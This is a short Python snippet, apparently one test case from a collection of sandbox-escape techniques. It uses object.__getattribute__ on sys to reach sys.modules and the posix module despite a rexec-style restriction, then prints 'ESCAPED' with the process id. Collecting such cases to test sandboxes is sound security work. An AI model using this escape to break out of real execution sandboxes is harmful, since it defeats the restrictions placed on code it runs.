# technique: the attributes of sys that were not granted, by object.__getattribute__
# goal: import
# source: rexec and new-style classes
import sys
print('ESCAPED pid=%d' % object.__getattribute__(sys, 'modules')['posix'].getpid())
